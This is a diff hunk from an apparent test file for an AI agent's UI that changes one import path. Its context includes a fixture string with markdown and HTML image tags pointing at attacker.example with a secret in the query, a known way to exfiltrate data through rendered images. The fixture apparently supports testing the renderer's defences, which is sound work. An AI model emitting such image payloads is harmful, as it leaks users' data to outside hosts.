@@ -15,7 +15,7 @@ from docgemma.agent.events import NodeEnd, Token
 from docgemma.agent.state import AgentState, ToolResult
 from docgemma.llm.fake import FakeLLM
 from docgemma.tools.registry import default_registry
-from docgemma.ui.events import apply_event, final_markdown, timeline_markdown, user_message
+from docgemma.ui.messages import apply_event, final_markdown, timeline_markdown, user_message
 from docgemma.ui.text import render_timeline
 
 REMOTE = "![x](http://attacker.example/?q=secret) <img src=http://attacker.example/a.png>"
